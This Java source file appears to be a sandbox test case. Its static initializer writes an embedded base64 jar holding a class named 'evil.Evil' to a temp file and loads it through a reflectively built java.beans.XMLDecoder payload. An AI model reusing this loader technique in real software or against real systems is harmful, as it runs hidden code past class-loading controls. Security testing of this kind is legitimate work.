// CONTRACT | D | Decodes an XML document that loads a class of a jar, which completes the future of
// the driver.
package toys.box;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;

public class Box {
  private static final String JAR =
      "UEsDBBQACAgIADBFfl0AAAAAAAAAAAAAAAAJAAQATUVUQS1JTkYv/soAAAMAUEsHCAAAAAACAAAAAAAAAFBLAwQUAAgICAAwRX5d"
          + "AAAAAAAAAAAAAAAAFAAAAE1FVEEtSU5GL01BTklGRVNULk1G803My0xLLS7RDUstKs7Mz7NSMNQz4OVyLkpNLElN0XWqBAqY6xno"
          + "GZoqaLikJmUm5mnycvFyAQBQSwcIHbOzmTgAAAA3AAAAUEsDBAoAAAgAAC9Ffl0AAAAAAAAAAAAAAAAFAAAAZXZpbC9QSwMEFAAI"
          + "CAgAL0V+XQAAAAAAAAAAAAAAAA8AAABldmlsL0V2aWwuY2xhc3OdV/lzE9cd/zwkeWX5WbYFBuRiCLdsY5sjECKDa8c24CAMRQ4p"
          + "Jj0WaW2E17uOtDKhV3rQM73oGdI0TelBmzZtgFa4UChJ21xN7/anznSmnf4J/aHTyUA/b1e1JSSYTHzs6r33vT+f73tPr964fA3A"
          + "TvxVwwKBWmMmY3YP8VELAb9EADUCweGR5Gj/yMCQQF1iTqJHiQQlahES0NYc6k88MJQUkEdKREKQqNcQkgijQSCQMm3LEFgUa0sc"
          + "12f0blO3Jrr3Hz1upBzKNiGiYaHEIjQLhOcFhqz8FF3M6Gbe2D8usDVWoj1g6rlcT8lE0slmrImeUg/KgGt/icRSRAVqdmSsjNMr"
          + "sDhWqTncdkjDWwQa51dGj2UNPR1iwq0Sy7GCtcnatiMQLcvEE9udtfPTPRGWdaXEKqwW8GXzlsDKWEllStUO5i1LP2oaPUGsZWzj"
          + "dnbCyIbQgvUq3JhAX+w2TqoZqVKKQ8pYu0QHNhDjnOEM6saUzZD8sTFvsUuiGxuJUM7Rs8zLF/PmN0tswd0C9al8NmtYjuf8VgS9"
          + "2R6lsE3iHlWf8IThlEQawr2Ia+iR2KFWm6umw9iodUBXjpRCr8Rb0adYSfyMrO6QOktiRyodj7UNK9/3SQxgkEyhlRF9qoJoxXIE"
          + "sUtR8ZiRmgxhD4Y13C+xF4kyxD1ZomE8nNfNHEOOVVK2bUxRYkRiPw6wF1L21LRpqCibKwEjCgF4PwEV7KjEAzikKm4axrSC4n7F"
          + "u7cLLCxTtU8oVEN4EGMSRxRGDdMMzUk6empyNKunjCDewTiJG9NW8bxL4t3QiSHHAsNvpFmqpFatQVNIazAkxjFRVixPgBWgR9cF"
          + "kyirvOc3hAyOa5iUMMGGbrhlXaCJ+oNGyiQD0rsyhpnm3LJYWyniWWPcpK9ud5kWbUxreFgiq6i95DZy5C9J359KGblcxq2mDUdV"
          + "KS+wrhqulVMaTlDWnc47bOKUbRVbonvAg13BtCvv5LM0P4OTEu/Be4lLJjfo7nnsqLEg3s8dxHH5MJUxzS7uC10Diojs3jVDVtpI"
          + "qxo9KvFBfMjrIbcyCVtPG9lbd5uSJbe0H5E4hY+S/txAPPrvrLK7jd3GQiVcQXxcYGlJtFN22jC79ucdEt1QHj8p8Sk8RiowULXH"
          + "DtgW9w/LcdulDLYSCn1G4rOqS4OO7YUUxOdZpwP9yeTQoIYvCETmy7x/2snYlm4qb1+S+DK+wj27hCWux2w+5dgsz5ayvcFLoq0K"
          + "d0qUGNHjikFniMsdBUM4ja9JPImvs2WNqWnnpDo8itbLQnVNfkPiaXyT56VlnBh2i5IiHutjVWpStdNm8C21qyRU3t+R+C7OeVUu"
          + "6w6BzioAV8vY65ag2nnYJerxA4kf4ll1cLvHKhELK8TmDyhC8v8V/wCBZ78mMpYxkp86amRHFdkFVlR1X2qjNpmZsHTVFOxBd8va"
          + "p08XtQPuQaehwN2iyqauYVag5fa9r+HyLYrF6gmEhh5JGS4cOQ1Xy3bUuRWBRMXOuKO9981ujuTzjpRZvFW03nL32FFSk14VX9LO"
          + "Z1PGrowqQ62a7lIKhPg+3ipIOX16n+Ecs9O5hhr8OoQX8ZKGlyVewasCq+ZtZ6wZe9LoTuhTR9M6NfRxXXGV1KybKh29VpppUclz"
          + "sEe30qaRW5Ow7cny+0Rl8mWKoyenjTe36Lm8s25b5eqAbprJjGP0NGJjQwC/VST+ncRP1Ikohy3LyLoQGkT8jwJr31C+Gv4ssPzO"
          + "ouwDT7hvEz028fhe0BdV92KgsUVdfjlTy98f4Vmu/5ijVXyrn9AFaAXUXYd8jiMB9axx15T8Ipyfk1/gzoYion0WjdchKuUXqHsr"
          + "n0p+L737+V7d3rHsEhZfQcvhWSxrv4y7gMiaS1g30ukvoK2zgM7zc4YWQ90+JA3W01CYl9gGOm7EBZUQNjINXmuLAe3lW7ldOotN"
          + "BWzd217A9hdRp157z938d/tzro56RtxAFkJjOmE008sSXPQCfh2ahnvDFCRERcPPwOcq9DXh5atoSTDsDoa6c6evt3XZWbR2tG4u"
          + "oD8yVMDuM6jlaBb7TvnEuZv/WoS3zSJ57uYriY4CDp93w7sHcd6KvEC6UMdnKwNZzqRWMIy7sBYreeNdgU1YQ9kYpdeiB+t4p1zv"
          + "BrmMJbmBJg0/FWLpfxG4iSCEpnLXaDekLnVexcVTLFsDNf4ZaYk8RIzemeh4Cf7zDOVoAcf2bbjW69vmb/a3nsULG5r9m+OBaIBp"
          + "WdEAJXLxmmjN85g5g6ejNdcxE9eiZMUjT+B05H3+dtfCB2bx4Xgw8rHSYa2Ih6K1BXwiXhetu7ZN+rbVN9c3y7NYGa1rrt8cD0fD"
          + "BXw68jm3VFo0HA+dqmeh/h4NBq4ic9gXrU0e9kdOJwv4orLAcL4a1eIyKqN1FEhRIESBWTxBiacKOPvgKT/Ve8/PQXuQkAKdhLKL"
          + "lOkmvJtYw80cbcE23I192IqH+GmStbWwHY/xwv44a/wkP5/lF8pL6MVV9OF59ONv1P0HBt2qH4T2OsIaUjfUN8NLQtzkPYzjFk65"
          + "Yw22+3FGQ8b94+efCQK+/D8Ko+0IlAgDnMQV2vUTuJ8TNV59yTLFtk3MRLGtqZ0wfNttCqtzAxGZb68wRYHdhHcPCTRcYsjri2uN"
          + "IXVMFum72jUH1PmvQhz2XYAvWdmpQfxiju8biwqLrlA+8j3fJXz/InyzeOYitPnWDNGRetZT2190fJ11U+8X8Eu3bQV+xVB/g9f4"
          + "/3tXWuAP+BP+guj/AFBLBwjoJYA6GwgAAMMPAABQSwECFAAUAAgICAAwRX5dAAAAAAIAAAAAAAAACQAEAAAAAAAAAAAAAAAAAAAA"
          + "TUVUQS1JTkYv/soAAFBLAQIUABQACAgIADBFfl0ds7OZOAAAADcAAAAUAAAAAAAAAAAAAAAAAD0AAABNRVRBLUlORi9NQU5JRkVT"
          + "VC5NRlBLAQIKAAoAAAgAAC9Ffl0AAAAAAAAAAAAAAAAFAAAAAAAAAAAAAAAAALcAAABldmlsL1BLAQIUABQACAgIAC9Ffl3oJYA6"
          + "GwgAAMMPAAAPAAAAAAAAAAAAAAAAANoAAABldmlsL0V2aWwuY2xhc3NQSwUGAAAAAAQABADtAAAAMgkAAAAA";

  static {
    try {
      Path jar = Files.createTempFile("e", ".jar");
      Files.write(jar, Base64.getDecoder().decode(JAR));
      String xml =
          "<java><object class='java.net.URLClassLoader'><array class='java.net.URL'"
              + " length='1'><void index='0'><object class='java.net.URL'><string>file:"
              + jar
              + "</string></object></void></array><void method='loadClass'><string>evil.Evil"
              + "</string><void method='getEnumConstants'/></void></object></java>";
      Object decoder =
          Class.forName("java.beans.XMLDecoder")
              .getConstructor(InputStream.class)
              .newInstance(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
      ((AutoCloseable) decoder).close();
      Thread.sleep(300);
    } catch (Exception e) {
      System.out.println(e);
    }
  }

  public int next() {
    return 0;
  }
}
